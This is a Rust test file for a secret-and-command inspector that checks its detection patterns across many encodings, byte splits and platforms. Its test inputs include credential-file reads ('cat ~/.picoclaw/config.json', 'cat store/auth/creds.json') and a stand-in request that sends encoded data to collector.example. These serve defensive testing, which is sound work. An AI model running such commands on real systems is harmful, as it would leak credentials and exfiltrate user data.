//! Every pattern's positive and negative cases (tests/cases/patterns.txt), each through the real
//! inspector in every form a secret or command travels in: raw, split at every byte, chunked,
//! percent-encoded, JSON-escaped, gzip, deflate and br; and in every view form of issue 11
//! (`common::views`): SSE deltas per provider shape, NDJSON, tool-call arguments, HTML.

mod common;

use common::cases::{cases, check_negatives, check_positives, spec, PLATFORMS};
use common::*;
use guardian_parser::scan::{Direction, Platform, Registry};

fn platform_for(pattern: &str) -> Platform {
    spec(pattern)
        .and_then(|s| s.platform)
        .unwrap_or(Platform::Generic)
}

/// Every form of a case's input as a full message of its direction.
fn forms(direction: Direction, input: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut forms: Vec<(String, Vec<u8>)> = encoded_forms(direction, input)
        .into_iter()
        .map(|(name, message)| (name.to_string(), message))
        .collect();
    forms.extend(common::views::view_forms(direction, input));
    forms
}

/// The encodings of a case's input a plain body or target carries.
fn encoded_forms(direction: Direction, input: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let mut forms = vec![
        ("raw", message(direction, "text/plain", "", input)),
        (
            "json",
            message(
                direction,
                "application/json",
                "",
                format!("{{\"data\":\"{}\"}}", json_escape(input)).as_bytes(),
            ),
        ),
        (
            "sse",
            message(
                direction,
                "text/event-stream",
                "",
                format!("data: {{\"delta\":\"{}\"}}\n\n", json_escape(input)).as_bytes(),
            ),
        ),
        (
            "gzip",
            message(
                direction,
                "text/plain",
                "Content-Encoding: gzip\r\n",
                &gzip(input),
            ),
        ),
        (
            "deflate",
            message(
                direction,
                "text/plain",
                "Content-Encoding: deflate\r\n",
                &zlib(input),
            ),
        ),
        (
            "raw-deflate",
            message(
                direction,
                "text/plain",
                "Content-Encoding: deflate\r\n",
                &raw_deflate(input),
            ),
        ),
        (
            "br",
            message(
                direction,
                "text/plain",
                "Content-Encoding: br\r\n",
                &brotli(input),
            ),
        ),
        (
            "gzip+json",
            message(
                direction,
                "application/json",
                "Content-Encoding: gzip\r\n",
                &gzip(format!("[\"{}\"]", json_escape(input)).as_bytes()),
            ),
        ),
        ("chunked-7", chunked(direction, "text/plain", input, 7)),
    ];
    if direction == Direction::Outbound {
        let encoded = percent_encode_all(input);
        forms.push((
            "form",
            request(
                "application/x-www-form-urlencoded",
                "",
                format!("data={encoded}").as_bytes(),
            ),
        ));
        if !input.contains(&b'\n') {
            let target = format!("GET http://collector.example/q?data={encoded} HTTP/1.1\r\nHost: collector.example\r\n\r\n");
            forms.push(("target", target.into_bytes()));
        }
    }
    forms
}

fn direction_of(pattern: &str, fallback: Direction) -> Direction {
    spec(pattern).map_or(fallback, |s| s.direction)
}

#[test]
fn positive_cases_are_found_in_every_form() {
    check_positives(
        |case, direction| forms(direction, &case.input),
        |r, d, s: &Vec<u8>| inspect(r, d, s),
    );
}

#[test]
fn positive_cases_are_found_whatever_the_split() {
    for case in cases().into_iter().filter(|c| c.positive) {
        let registry = Registry::builtin(platform_for(&case.pattern));
        let direction = direction_of(&case.pattern, Direction::Outbound);
        let stream = message(direction, "text/plain", "", &case.input);
        let whole = inspect(&registry, direction, &stream);
        for split in 1..stream.len() {
            let (two, _) = inspect_split(&registry, direction, &stream, &[split, stream.len()]);
            assert_eq!(
                two, whole,
                "line {}: split at {split} changed the result",
                case.line
            );
        }
        let (bytewise, _) = inspect_split(&registry, direction, &stream, &[1]);
        assert_eq!(
            bytewise, whole,
            "line {}: byte-by-byte feeding changed the result",
            case.line
        );
    }
}

#[test]
fn negative_cases_are_not_found_in_any_form() {
    check_negatives(
        &PLATFORMS,
        |case, direction| forms(direction, &case.input),
        |r, d, s: &Vec<u8>| inspect(r, d, s),
    );
}

#[test]
fn every_builtin_pattern_has_positive_and_negative_cases() {
    let all = cases();
    for id in guardian_parser::scan::builtin_ids() {
        assert!(
            all.iter().any(|c| c.positive && c.pattern == id),
            "{id} has no positive case"
        );
        assert!(
            all.iter().any(|c| !c.positive && c.pattern == id),
            "{id} has no negative case"
        );
    }
}

#[test]
fn platform_only_patterns_are_off_elsewhere() {
    let picoclaw_case = b"cat ~/.picoclaw/config.json";
    let nanoclaw_case = b"cat store/auth/creds.json";
    let found = |platform, input: &[u8]| {
        inspect(
            &Registry::builtin(platform),
            Direction::Outbound,
            &request("text/plain", "", input),
        )
        .into_iter()
        .map(|d| d.pattern)
        .collect::<Vec<_>>()
    };
    assert_eq!(
        found(Platform::Picoclaw, picoclaw_case),
        vec!["gateway_token_path"]
    );
    assert!(found(Platform::Nanoclaw, picoclaw_case).is_empty());
    assert!(found(Platform::Generic, picoclaw_case).is_empty());
    assert_eq!(
        found(Platform::Nanoclaw, nanoclaw_case),
        vec!["whatsapp_session_path"]
    );
    assert!(found(Platform::Picoclaw, nanoclaw_case).is_empty());
}
